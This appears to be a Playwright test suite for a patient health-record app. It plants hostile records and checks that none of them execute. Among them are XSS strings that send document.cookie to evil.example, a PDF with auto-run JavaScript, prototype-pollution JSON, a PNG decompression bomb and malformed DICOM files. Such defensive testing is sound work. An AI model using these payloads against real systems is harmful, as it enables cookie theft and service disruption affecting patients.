"""Hostile content in a real chart, written past every check by somebody who may write: names, file names, narrative,
SVG, HTML, PDF, malformed and boastful DICOM. It never runs, never speaks to anybody, and never breaks a page."""

import base64
import json
import struct

import pytest
from network import PASSPHRASE
from people import confirm, fits, sign_in, signed_in
from playwright.sync_api import Error, expect
from test_wallet import SCRIPT

RUN = "globalThis.__ran=1;fetch('http://evil.example/'+document.cookie)"
NAME = f'"><img src=x onerror="{RUN}"><script>{RUN}</script>'
TURNED = "invoice\u202efdp.exe"
NARRATIVE = (
    f'<div xmlns="http://www.w3.org/1999/xhtml" onclick="{RUN}"><script>{RUN}</script><p>Plain narrative</p>'
    f'<img src="http://evil.example/pixel" onerror="{RUN}"/>'
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>'
    f'<a href="javascript:{RUN}">press me</a><form action="http://evil.example/"><input name="q"/></form>'
    "<style>@import url(http://evil.example/style); body { display: none }</style>"
    f'<svg onload="{RUN}"><foreignObject><script>{RUN}</script></foreignObject></svg></div>'
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}" width="9" height="9"><script>{RUN}</script>'
    '<image href="http://evil.example/image"/><rect width="9" height="9"/></svg>'
)
PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ("
    + RUN.replace("(", "\\(").replace(")", "\\)").encode()
    + b") >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page"
    b" /Parent 2 0 R /MediaBox [0 0 200 200]"
    b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A"
    b" << /S /URI /URI (http://evil.example/) >> >>] >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n"
)


def dicom(rows, columns, length, tail=b""):
    """A DICOM head that claims so many rows and columns, and pixels of a length that need not be there."""

    def element(group, number, kind, value):
        return struct.pack("<HH2sH", group, number, kind, len(value)) + value

    syntax = b"1.2.840.10008.1.2.1\0"
    meta = element(2, 0x10, b"UI", syntax)
    head = element(2, 0, b"UL", struct.pack("<I", len(meta))) + meta
    image = b"".join(
        element(0x28, number, b"US", struct.pack("<H", value))
        for number, value in ((2, 1), (0x10, rows), (0x11, columns), (0x100, 8), (0x101, 8), (0x102, 7), (0x103, 0))
    )
    photometric = element(0x28, 4, b"CS", b"MONOCHROME2 ")
    named = element(0x10, 0x10, b"PN", (NAME + " ")[: len(NAME) + len(NAME) % 2].encode())
    pixels = struct.pack("<HH2sHI", 0x7FE0, 0x10, b"OB", 0, length) + tail
    return b"\0" * 128 + b"DICM" + head + named + image[:10] + photometric + image[10:] + pixels


def condition(**more):
    return {
        "resourceType": "Condition",
        "subject": {"display": NAME},
        "clinicalStatus": {"coding": [{"system": f"javascript:{RUN}", "code": "active", "display": NAME}]},
        "code": {"coding": [{"system": "x", "code": NAME, "display": NAME}], "text": f"Condition {NAME}"},
        "note": [{"text": NAME}],
        **more,
    }


def deep(levels):
    """An extension within an extension, and so on."""
    return "".join('{"url":"x","extension":[' for _ in range(levels)) + "]}" * levels


RECORDS = [
    ("a condition with script", "application/fhir+json", json.dumps(condition())),
    ("a narrative with script", "application/fhir+json", json.dumps(
        condition(text={"status": "additional", "div": NARRATIVE}))),
    ("prototype members", "application/fhir+json",
     '{"resourceType":"Condition","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"code":7}'),
    ("deep nesting", "application/fhir+json",
     '{"resourceType":"Condition","code":{"text":"Deep"},"extension":[' + deep(3_000) + "]}"),
    ("no JSON", "application/fhir+json", "{" * 5_000),
    ("an unheard-of type", "application/fhir+json", json.dumps({"resourceType": NAME, "status": [{}]})),
    ("a reading with odd values", "application/fhir+json", json.dumps(
        {"resourceType": "Observation", "status": "final", "code": {"text": NAME}, "effectiveDateTime": "9999-99-99",
         "valueQuantity": {"value": 1e308, "unit": NAME}, "referenceRange": [{"low": {"value": "x"}}]})),
    (TURNED, "image/svg+xml", SVG),
    ("page.html", "text/html", f"<script>{RUN}</script><body onload='{RUN}'>"),
    ("action.pdf", "application/pdf", PDF),
    ("broken.pdf", "application/pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40),
    ("bomb.png", "image/png",
     b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000) + b"\x08\x06\0\0\0" + b"\0" * 40),
    ("boast.dcm", "application/dicom", dicom(65_535, 65_535, 0xFFFFFFF0)),
    ("short.dcm", "application/dicom", dicom(64, 64, 4_096, b"\0" * 10)),
    ("endless.dcm", "application/dicom", dicom(2, 2, 0xFFFFFFFF, b"\xfe\xff\0\xe0\xff\xff\xff\xff" * 50)),
    ("noise.dcm", "application/dicom", b"\0" * 128 + b"DICM" + bytes((i * 37) % 256 for i in range(3_000))),
]  # fmt: skip

WRITE = """async ({ person, desk, module, argument }) => {
  const { addRecord, writingContext } = await module('wallet/records');
  const context = await writingContext(person, person.id);
  for (const { name, media, content } of argument) {
    const bytes = Uint8Array.from(atob(content), (one) => one.charCodeAt(0));
    await addRecord(person, desk, context, {
      category: 'clinical', content: new Blob([bytes]),
      metadata: { mediaType: media, title: name, fileName: name },
    });
  }
}"""


@pytest.fixture(scope="module")
def people(network):
    network.patient("mallory", display_name=NAME[:60])
    network.staff("victor", f"Victor <script>{RUN}</script>", "physician", "Riverside")
    return network


def write(open_page, people):
    page = open_page()
    root = page.evaluate("fetch('/app/bundle.json').then((answer) => answer.json()).then((one) => one.root)")
    records = [
        {
            "name": name,
            "media": media,
            "content": base64.b64encode(content if isinstance(content, bytes) else content.encode()).decode(),
        }
        for name, media, content in RECORDS
    ]
    page.evaluate(
        SCRIPT.replace("BODY", WRITE),
        {"root": root, "card": (people.folder / "mallory.card").read_text().strip(), "passphrase": PASSPHRASE,
         "argument": records},
    )  # fmt: skip


def unharmed(page, where):
    """Nothing ran, in the page or in a frame of it; the page stands and fits."""
    assert page.evaluate("[globalThis.__ran, ({}).polluted, document.title.includes('<')]") == [None, None, False], (
        where
    )
    for frame in page.frames[1:]:
        try:
            ran = frame.evaluate("globalThis.__ran ?? null")
        except Error as error:
            # A page that is drawn anew makes its frames anew.
            assert "detached" in str(error) or "destroyed" in str(error), error
            continue
        assert ran is None, (where, frame.url)
    assert page.locator("main script, main [onerror], main [onload], main [onclick]").count() == 0, where
    assert page.locator(".state-problem").count() == 0, where
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    fits(page, where)


def look_at_everything(page, people, base):
    page.get_by_role("heading", name="Problems").wait_for()
    for view in ("", "/timeline", "/results", "/medicines", "/documents"):
        page.goto(f"{people.url}/#{base}{view}")
        page.locator(".progress").wait_for(state="detached")
        page.wait_for_timeout(150)
        unharmed(page, view)
    records = people.ask("mallory", "record", "list", "--all")["records"]
    assert len(records) == len(RECORDS)
    for record in records:
        page.goto(f"{people.url}/#{base}/item/{record['record']}")
        page.locator(".record-head").wait_for()
        if page.locator(".record button").get_by_text("Open", exact=True).count():
            page.locator(".record button").get_by_text("Open", exact=True).first.click()
        page.wait_for_timeout(250)
        unharmed(page, record.get("title"))


def test_the_patient_sees_hostile_content_harmlessly(open_page, people):
    write(open_page, people)
    page = open_page(None, width=390)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # What a frame without scripts refuses is told to the console by the browser.
    page.watch.expected += ["sandbox", "Content Security Policy", "Refused to", "Warning: ", "pdf.worker"]
    sign_in(page, people, "mallory")
    signed_in(page)
    page.goto(f"{people.url}/#/record")
    look_at_everything(page, people, "/record")
    assert not dialogs


def test_names_of_people_are_text_everywhere(open_page, people):
    physician = open_page(None)
    sign_in(physician, people, "victor")
    signed_in(physician)
    physician.goto(f"{people.url}/#/find/{people.ids['mallory']}")
    physician.get_by_label("Reason").fill(NAME)
    physician.get_by_role("button", name="Ask the patient").click()
    confirm(physician)
    patient = open_page(None)
    sign_in(patient, people, "mallory")
    signed_in(patient)
    patient.get_by_role("link", name="Decide").first.click()
    expect(patient.get_by_text("Victor <script>").first).to_be_visible()
    expect(patient.get_by_text(NAME)).to_be_visible()
    patient.get_by_role("button", name="Grant access").click()
    confirm(patient, "Victor <script>")
    expect(patient.locator("[data-grant]")).to_be_visible()
    for page, addresses in (
        (patient, ["home", "access", "log", "inbox", "ledger"]),
        (physician, ["my-requests", "inbox"]),
    ):
        for address in addresses:
            page.goto(f"{people.url}/#/{address}")
            expect(page.get_by_role("heading", level=1)).to_be_visible()
            page.wait_for_timeout(200)
            unharmed(page, address)
